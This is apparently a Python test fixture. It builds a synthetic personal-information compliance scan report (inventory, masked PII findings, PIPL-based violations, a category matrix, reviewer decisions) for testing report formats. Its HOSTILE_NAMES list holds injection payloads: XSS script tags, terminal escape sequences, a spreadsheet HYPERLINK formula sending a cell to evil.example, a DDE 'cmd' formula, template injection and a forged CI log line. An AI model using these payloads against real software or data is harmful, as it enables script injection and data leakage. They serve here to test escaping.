"""A fixed synthetic report with everything a format has to show: every status, verdict, severity and matrix state,
hostile names, clauses with and without a quote. Names of people and companies are invented; samples are masked."""

from __future__ import annotations

from dataclasses import replace
from typing import Any, Literal

from register.entries import System
from register.matrix import MatrixRow
from register.model import Register
from register.violation import Clause, Severity, Text, Violation
from reports import Report
from scanner.decisions import Decision, Force, Ruling, Seen, Standing
from scanner.inventory import AssetRecord, ColumnRecord, Evidence, Finding, Inventory, SourceRecord, Status, Verdict

ESC_NAME = "orders\x1b[31m\x1b]0;owned\x07\u202egnp.exe"
HTML_NAME = "</style></title><script>alert(1)</script><img src=x onerror=alert(2)>"
FORMULA_NAME = '=HYPERLINK("http://evil.example/?"&A1,"click")'
HOSTILE_NAMES = (
    ESC_NAME,
    HTML_NAME,
    FORMULA_NAME,
    "{{ 7*7 }}{% raw %}${7*7}",
    "javascript:alert(1)//\u200b\u2028next\r\n::error::forged",
    "' onmouseover='alert(1)' \" onfocus=\"alert(1)\" autofocus",
    "＋8613800000000\ud800\ufffe\x00end",
    "[bold red]rich[/bold red] :skull: [link](javascript:alert(1))",
    "@SUM(1+1)*cmd|' /C calc'!A0",
)


def _system(key: str, name: str, location: str, *bindings: str) -> System:
    return System(key, name, "sales", "prod", location, bindings, f"systems.{key}", 1)


REGISTER = Register(
    "register.yaml", {}, name="云帆软件（上海）有限公司 个人信息登记册", version="1.4.0",
    systems={"crm": _system("crm", "客户关系系统", "CN-SH"), "marketing-site": _system("marketing-site", "官网与研讨会", "JP", "postgresql://marketing/*")},
)  # fmt: skip


def _column(name: str, kind: str = "varchar(64)", comment: str = "", line: int = 0) -> ColumnRecord:
    return ColumnRecord(name, kind, comment, line, rows=0 if line else 10_000, filled=0 if line else 9_800)


CUSTOMERS = AssetRecord(
    "sqlite://crm/customers", "crm", "table", "customers", path="/data/crm.db", comment="客户主表", status=Status.SAMPLED, method="keys",
    rows_estimate=1_250_000, rows_exact=False, rows_read=10_000, owner="销售部", environment="prod", region="CN-SH", system="crm", bad=3, cut=1,
    columns=(_column("id", "bigint"), _column("xm", comment="联系人姓名"), _column("sjh", "char(11)", "手机"), _column("email"), _column("beizhu", "text", "备注"), _column("sfzh", "char(18)", "身份证号")),
    absent_bound=0.0003,
)  # fmt: skip
SEMINAR = AssetRecord(
    "postgresql://marketing/public.seminar_signups", "marketing", "table", "seminar_signups", schema="public", comment="研讨会报名", status=Status.COMPLETE,
    method="full", rows_estimate=842, rows_exact=True, rows_read=842, owner="市场部", environment="prod", region="JP", system="marketing-site",
    columns=(_column("name"), _column("wechat", comment="微信号"), _column("company", comment="公司"), _column("job", comment="职位")),
)  # fmt: skip
TEST_COPY = AssetRecord(
    "sqlite://crm-test/customers", "crm-test", "table", "customers", path="/data/crm-test.db", status=Status.COMPLETE, method="full", rows_estimate=500,
    rows_exact=True, rows_read=500, environment="test", region="CN-SH", system="crm", columns=(_column("xm"), _column("sjh")),
)  # fmt: skip
EXPORT = AssetRecord(
    "file://share/2024/客户名单.xlsx#Sheet1", "share", "sheet", "Sheet1", path="/srv/share/2024/客户名单.xlsx#Sheet1", status=Status.COMPLETE, method="full",
    rows_estimate=120, rows_exact=True, rows_read=120, modified="2024-03-01T02:00:00Z", owner="销售部", columns=(_column("姓名", ""), _column("电话", ""), _column("地址", "")),
)  # fmt: skip
LOG = AssetRecord(
    "file://share/app.log", "share", "file", "app.log", path="/srv/share/app.log", status=Status.PARTIAL, reason="limit_seconds", detail="300 s", method="head",
    rows_read=2_000_000, columns=(_column("text", "text"),), absent_bound=0.0000015,
)  # fmt: skip
MIGRATION = AssetRecord(
    "file://pr/migrations/0042_add_bank.sql#public.payout", "pr", "schema", "payout", schema="public", path="migrations/0042_add_bank.sql", status=Status.SCHEMA,
    method="schema", line=3, system="crm", columns=(_column("payee", line=4), _column("bank_card_no", "varchar(32)", "银行卡号", line=5)),
)  # fmt: skip
HOSTILE = AssetRecord(
    "sqlite://crm/hostile", "crm", "table", HTML_NAME, schema=ESC_NAME, comment=FORMULA_NAME, status=Status.COMPLETE, method="full", rows_read=9,
    rows_estimate=9, rows_exact=True, system="crm", columns=tuple(_column(name, comment=name) for name in HOSTILE_NAMES),
)  # fmt: skip
UNREAD = (
    AssetRecord(
        "postgresql://marketing/hr.salary", "marketing", "table", "salary", schema="hr", status=Status.ERROR, reason="no_permission"
    ),
    AssetRecord(
        "postgresql://marketing/public.members",
        "marketing",
        "table",
        "members",
        schema="public",
        status=Status.ERROR,
        reason="row_security",
    ),
    AssetRecord(
        "file://share/旧合同.pdf",
        "share",
        "file",
        "旧合同.pdf",
        path="/srv/share/旧合同.pdf",
        status=Status.SKIPPED,
        reason="unsupported_format",
    ),
    AssetRecord("file://share/logo.png", "share", "file", "logo.png", path="/srv/share/logo.png", status=Status.SKIPPED, reason="binary"),
    AssetRecord(
        "postgresql://marketing/public.v_all", "marketing", "view", "v_all", schema="public", status=Status.SKIPPED, reason="view_not_read"
    ),
)
SOURCES = (
    SourceRecord("crm", "sqlite:////data/crm.db", "sqlite", "销售部", "prod", "CN-SH", "crm"),
    SourceRecord("crm-test", "sqlite:////data/crm-test.db", "sqlite", "", "test", "CN-SH", "crm"),
    SourceRecord("marketing", "postgresql://reader@db.example/marketing", "postgresql", "市场部", "prod", "JP", "marketing-site"),
    SourceRecord("share", "/srv/share", "file"),
    SourceRecord("pr", "migrations", "file", system="crm"),
    SourceRecord("legacy", "mysql://reader@legacy.example/old", "mysql", reason="unreachable", detail="connection refused"),
)

_CATEGORY = {
    "PERSON": "user.name", "PHONE_NUMBER": "user.contact.phone_number", "EMAIL_ADDRESS": "user.contact.email", "ADDRESS": "user.contact.address",
    "SNS_ACCOUNT": "user.account.sns", "COMPANY": "user.workplace", "JOB_TITLE": "user.job_title", "CN_RESIDENT_ID": "user.government_id.national_identification_number",
    "BANK_CARD": "user.financial.account_number",
}  # fmt: skip


def _finding(asset: AssetRecord, column: str, entity: str, verdict: str, matched: int = 0, filled: int = 0, **more: Any) -> Finding:
    evidence = tuple(Evidence(*reason) for reason in more.pop("evidence", ()))
    values = more.pop("values", matched)
    rows = asset.rows_read if filled else 0
    return Finding(
        asset.uri,
        column,
        entity,
        _CATEGORY[entity],
        Verdict(verdict),
        matched=matched,
        values=values,
        filled=filled,
        rows=rows,
        evidence=evidence,
        **more,
    )


FINDINGS = (
    _finding(CUSTOMERS, "xm", "PERSON", "CONFIRMED", 9_640, 9_800, distinct=8_900, distinct_error=0.02, samples=("陈*", "欧阳*"), evidence=(("header", "xm", 0.9), ("comment", "姓名", 0.9), ("values", "han_name", 0.9837))),
    _finding(CUSTOMERS, "sjh", "PHONE_NUMBER", "CONFIRMED", 9_790, 9_800, samples=("138****0001", "159****0002"), evidence=(("header", "sjh", 0.9), ("values", "mobile", 0.999), ("unique", "", 0.97))),
    _finding(CUSTOMERS, "email", "EMAIL_ADDRESS", "CONFIRMED", 7_020, 7_100, samples=("c***@example.com",), evidence=(("values", "address", 0.9887),)),
    _finding(CUSTOMERS, "beizhu", "PHONE_NUMBER", "LIKELY", 14, 3_300, values=15, sparse=True, samples=("139****0003",), evidence=(("values", "mobile", 0.0042), ("context", "电话", None))),
    _finding(CUSTOMERS, "beizhu", "SNS_ACCOUNT", "POSSIBLE", 2, 3_300, sparse=True, samples=("w***8",), evidence=(("values", "wechat_cue", 0.0006),)),
    _finding(CUSTOMERS, "sfzh", "CN_RESIDENT_ID", "CONFIRMED", 9_799, 9_800, state="masked", samples=("3101************1X",), evidence=(("header", "sfzh", 0.95), ("checksum", "CN_RESIDENT_ID", 1.0))),
    _finding(SEMINAR, "name", "PERSON", "LIKELY", 800, 842, samples=("王*",), evidence=(("header", "name", 0.5), ("table", "signups", 0.4))),
    _finding(SEMINAR, "wechat", "SNS_ACCOUNT", "CONFIRMED", 640, 700, samples=("q***7",), evidence=(("header", "wechat", 0.9),)),
    _finding(SEMINAR, "company", "COMPANY", "LIKELY", 790, 842, samples=("上海***公司",), evidence=(("header", "company", 0.8),)),
    _finding(SEMINAR, "job", "JOB_TITLE", "POSSIBLE", 300, 700, samples=("经*",), evidence=(("header", "job", 0.4),)),
    _finding(TEST_COPY, "xm", "PERSON", "CONFIRMED", 498, 500, samples=("陈*",), evidence=(("header", "xm", 0.9),)),
    _finding(TEST_COPY, "sjh", "PHONE_NUMBER", "CONFIRMED", 500, 500, samples=("138****0001",), evidence=(("header", "sjh", 0.9),)),
    _finding(EXPORT, "姓名", "PERSON", "CONFIRMED", 120, 120, samples=("李*",), evidence=(("header", "姓名", 1.0),)),
    _finding(EXPORT, "电话", "PHONE_NUMBER", "CONFIRMED", 118, 120, samples=("021****0004",), evidence=(("header", "电话", 1.0),)),
    _finding(EXPORT, "地址", "ADDRESS", "CONFIRMED", 110, 112, samples=("上海市******",), evidence=(("header", "地址", 1.0),)),
    _finding(LOG, "text", "PHONE_NUMBER", "LIKELY", 57, 2_000_000, values=61, sparse=True, samples=("137****0005",), evidence=(("values", "mobile", 0.0000285),)),
    _finding(MIGRATION, "payee", "PERSON", "POSSIBLE", line=4, evidence=(("header", "payee", 0.4),)),
    _finding(MIGRATION, "bank_card_no", "BANK_CARD", "LIKELY", line=5, evidence=(("header", "bank_card", 0.9), ("comment", "银行卡", 0.9))),
    *(_finding(HOSTILE, name, "PERSON", "POSSIBLE", 1, 9, samples=(name[:1] + "*",), evidence=(("comment", name, 0.5),)) for name in HOSTILE_NAMES),
)  # fmt: skip

VIOLATIONS = (
    Violation(
        "XB-001", Severity.CRITICAL, Text("个人信息存放在境外，登记册没有出境记录", "Personal information is kept abroad without a transfer entry"),
        Text("研讨会报名表存放于日本（JP），登记册中没有对应的出境条目。", "The seminar sign-ups lie in Japan (JP); the register has no transfer entry for it."),
        Text("补充出境条目（接收方、机制、单独同意），或把数据迁回境内。", "Add a transfer entry (recipient, mechanism, separate consent) or move the data back."),
        law=("个人信息保护法 第三十八条", "个人信息保护法 第三十九条"), clause=Clause("个人信息保护方针", "四.2", ""), uri=SEMINAR.uri, system="marketing-site",
        file="register.yaml", line=210, gate=True, evidence=(("region", "JP"), ("matched", "2530")),
        yaml="cross_border_transfers:\n  - id: seminar-jp\n    recipient: 云帆株式会社\n    country: JP\n    mechanism: standard_contract\n",
    ),
    Violation(
        "INV-001", Severity.CRITICAL, Text("发现未声明的个人信息种类", "A kind of personal information that nobody declared"),
        Text("字段 sfzh 含居民身份证号，政策和登记册都未声明收集。", "Column sfzh holds resident IDs; neither policy nor register declares them."),
        Text("停止收集并删除，或在政策中声明、取得单独同意后登记。", "Stop collecting and delete, or declare it in the policy, obtain separate consent and register it."),
        law=("个人信息保护法 第六条", "个人信息保护法 第十七条"), clause=Clause("个人信息保护方针", "一.1", "本公司收集的个人信息主要有：公司名称、职位、姓名、地址、电话号码、邮件地址"),
        uri=CUSTOMERS.uri, column="sfzh", entity="CN_RESIDENT_ID", category=_CATEGORY["CN_RESIDENT_ID"], system="crm", file="register.yaml", line=40,
        yaml="data_categories:\n  - fides_key: user.government_id.national_identification_number\n    name: 居民身份证号\n", evidence=(("matched", "9799"), ("rows", "10000"), ("verdict", "CONFIRMED")),
    ),
    Violation(
        "INV-011", Severity.HIGH, Text("新增字段疑似个人信息且未登记", "A new column looks like personal information and is not registered"),
        Text("public.payout.bank_card_no 疑似银行卡号。", "public.payout.bank_card_no looks like bank card numbers."),
        Text("在合并前登记该字段，或说明它不是个人信息。", "Register the column before merging, or say why it is not personal information."),
        law=("个人信息保护法 第五十一条",), uri=MIGRATION.uri, column="bank_card_no", entity="BANK_CARD", category=_CATEGORY["BANK_CARD"], system="crm",
        file="migrations/0042_add_bank.sql", line=5, at=3, also=(("models/payout.py", 12),), yaml="data_categories:\n  - fides_key: user.financial.account_number\n", evidence=(("header", "bank_card"),),
    ),
    Violation(
        "SEC-002", Severity.HIGH, Text("测试环境出现真实个人信息", "Real personal information in a test environment"),
        Text("crm-test 的 sjh 与生产环境有重合。", "Column sjh of crm-test overlaps with production."), Text("清除测试库，改用合成数据。", "Empty the test database and use synthetic data."),
        law=("个人信息保护法 第五十一条",), uri=TEST_COPY.uri, column="sjh", entity="PHONE_NUMBER", category=_CATEGORY["PHONE_NUMBER"], system="crm", gate=False,
        file="register.yaml", line=120, evidence=(("overlap", "0.94"), ("environment", "test")),
    ),
    Violation(
        "RET-002", Severity.HIGH, Text("超过保存期限", "Kept longer than declared"), Text("最早记录早于保存期限 3 年。", "The oldest row is older than the period of 3 years."),
        Text("删除或匿名化超期记录。", "Delete or anonymise the overdue rows."), law=("个人信息保护法 第十九条",), clause=Clause("个人信息保护方针", "五", "保存期限为自最后一次交易起三年"),
        uri=CUSTOMERS.uri, column="created_at", system="crm", gate=False, file="register.yaml", line=160, evidence=(("oldest", "2017-05-02"), ("overdue", "1834")),
    ),
    Violation(
        "INV-003", Severity.MEDIUM, Text("个人信息在未登记的文件中", "Personal information in a file that belongs to no system"),
        Text("表格 客户名单.xlsx 不属于任何系统。", "The sheet 客户名单.xlsx belongs to no system."), Text("归入系统或删除。", "Bind it to a system or delete it."),
        uri=EXPORT.uri, entity="PERSON", category="user.name", file="register.yaml", line=1, law=("个人信息保护法 第五十一条",),
    ),
    Violation(
        "INV-006", Severity.LOW, Text("声明了但没有发现", "Declared and not found"), Text("“传真号码”在所有已扫描系统中均未发现。", "“Fax number” was found in no scanned system."),
        Text("确认是否仍在收集，否则从政策中删去。", "See whether it is still collected, else remove it from the policy."), declaration="data_categories[9]", category="user.contact.fax_number",
        clause=Clause("个人信息保护方针", "一.1", "传真号码"), file="register.yaml", line=88, gate=False,
    ),
    Violation(
        "GOV-001", Severity.INFO, Text("部门没有负责人", "A department without an owner"), Text("客户支持部没有指定负责人。", "Support has no owner."), Text("指定负责人。", "Name an owner."),
        declaration="departments[1].owner", file="register.yaml", line=30, gate=False, yaml="departments:\n  - id: support\n    owner: ...\n",
    ),
    Violation(
        "INV-002", Severity.MEDIUM, Text("已声明，但不在该系统", "Declared, but not for this system"), Text(f"字段 {HTML_NAME} 含姓名。", f"Column {HTML_NAME} holds names."),
        Text(f"修改 {FORMULA_NAME}", f"Change {FORMULA_NAME}"), clause=Clause(ESC_NAME, "一", HTML_NAME), uri=HOSTILE.uri, column=HTML_NAME, entity="PERSON", category="user.name",
        system="crm", file="we,ird:%na\nme.sql", line=0, yaml=f"x: {HTML_NAME}\n", evidence=((HTML_NAME, ESC_NAME),),
    ),
)  # fmt: skip


def _row(category: str, name: Text | str, system: str, clause: str, verdict: str, matched: int, columns: int) -> MatrixRow:
    state: Any = ("declared_found" if clause else "found_undeclared") if verdict else "declared_not_found"
    named = name if isinstance(name, Text) else Text(name, _ENGLISH[name])
    shown = REGISTER.systems[system].name if system else ""
    where = Clause("个人信息保护方针", clause) if clause else None
    return MatrixRow(category, named, system, shown, bool(clause), where, verdict, matched, columns, state)


_ENGLISH = {
    "姓名": "Name", "电话号码": "Phone number", "邮件地址": "E-mail address", "地址": "Address", "SNS 账号": "Social network account", "职位": "Job title",
    "居民身份证号": "Chinese resident identity number", "银行卡号": "Bank card number", "传真号码": "Fax number",
}  # fmt: skip
MATRIX = (
    _row("user.name", "姓名", "crm", "一.1", "CONFIRMED", 10138, 3),
    _row("user.name", "姓名", "marketing-site", "一.1", "LIKELY", 800, 1),
    _row("user.name", "姓名", "", "", "CONFIRMED", 120, 1),
    _row("user.contact.phone_number", "电话号码", "crm", "一.1", "CONFIRMED", 10304, 3),
    _row("user.contact.phone_number", "电话号码", "marketing-site", "一.1", "", 0, 0),
    _row("user.contact.phone_number", "电话号码", "", "", "CONFIRMED", 175, 2),
    _row("user.contact.email", "邮件地址", "crm", "一.1", "CONFIRMED", 7020, 1),
    _row("user.contact.email", "邮件地址", "marketing-site", "一.1", "", 0, 0),
    _row("user.contact.address", "地址", "crm", "一.1", "", 0, 0),
    _row("user.contact.address", "地址", "", "", "CONFIRMED", 110, 1),
    _row("user.account.sns", "SNS 账号", "crm", "一.2", "POSSIBLE", 2, 1),
    _row("user.account.sns", "SNS 账号", "marketing-site", "一.2", "CONFIRMED", 640, 1),
    _row("user.workplace", Text("公司名称", "Company name"), "crm", "一.1", "", 0, 0),
    _row("user.workplace", Text("公司名称", "Company name"), "marketing-site", "一.1", "LIKELY", 790, 1),
    _row("user.job_title", "职位", "marketing-site", "一.1", "POSSIBLE", 300, 1),
    _row("user.government_id.national_identification_number", "居民身份证号", "crm", "", "CONFIRMED", 9799, 1),
    _row("user.financial.account_number", "银行卡号", "crm", "", "LIKELY", 0, 1),
    _row("user.contact.fax_number", "传真号码", "crm", "一.1", "", 0, 0),
)  # fmt: skip

INVENTORY = Inventory(
    scan="01JD8Z3V9QH3", started="2026-11-20T01:00:00Z", finished="2026-11-20T01:12:30Z", version="0.1.0", recognizers="9f2c1d7e55aa0b31", mode="sample",
    sample_rows=10_000, seed=7, sources=SOURCES, assets=(CUSTOMERS, SEMINAR, TEST_COPY, EXPORT, LOG, MIGRATION, HOSTILE, *UNREAD), findings=FINDINGS,
    thresholds={"column_share": 0.6, "PERSON": {"lone_share": 0.9, "sparse_cells": 5}},
)  # fmt: skip


def _stands(number: int, ruling: str, reason: str, force: str = "counts", *changes: str, until: str = "") -> Standing:
    finding = FINDINGS[number]
    decision = Decision(finding.fingerprint, Ruling(ruling), reason, "李娜", "2026-11-19T08:30:00+00:00", until, Seen.of(finding))
    return Standing(decision, Force(force), changes)


DECISIONS = {
    stands.decision.finding: stands
    for stands in (
        _stands(3, "confirmed", "客服在备注里抄写客户电话", until="2027-11-30"),
        _stands(4, "false_positive", f"是内部工单代号，不是微信号 {HTML_NAME}"),
        _stands(9, "false_positive", "岗位代码，不指向个人", "stale", "grown", "exposed"),
        _stands(15, "false_positive", FORMULA_NAME + ESC_NAME, "expired", until="2026-10-31"),
        _stands(16, "false_positive", "收款科目名称，不是人名"),
    )
}


def sample(lang: Literal["zh", "en"] = "zh") -> Report:
    return Report(INVENTORY, VIOLATIONS, REGISTER, MATRIX, lang, "2026-11-20T01:15:00Z", decisions=DECISIONS)


def empty(lang: Literal["zh", "en"] = "zh") -> Report:
    """A scan of nothing, compared with nothing."""
    return Report(replace(INVENTORY, sources=(), assets=(), findings=()), lang=lang)


def many(count: int) -> Report:
    """`count` tables with a finding and a violation each."""
    assets = tuple(replace(SEMINAR, uri=f"postgresql://marketing/public.t{n}", name=f"t{n}") for n in range(count))
    findings = tuple(replace(FINDINGS[6], uri=asset.uri) for asset in assets)
    violations = tuple(replace(VIOLATIONS[1], uri=asset.uri, column="name") for asset in assets)
    return Report(replace(INVENTORY, assets=assets, findings=findings), violations, REGISTER)
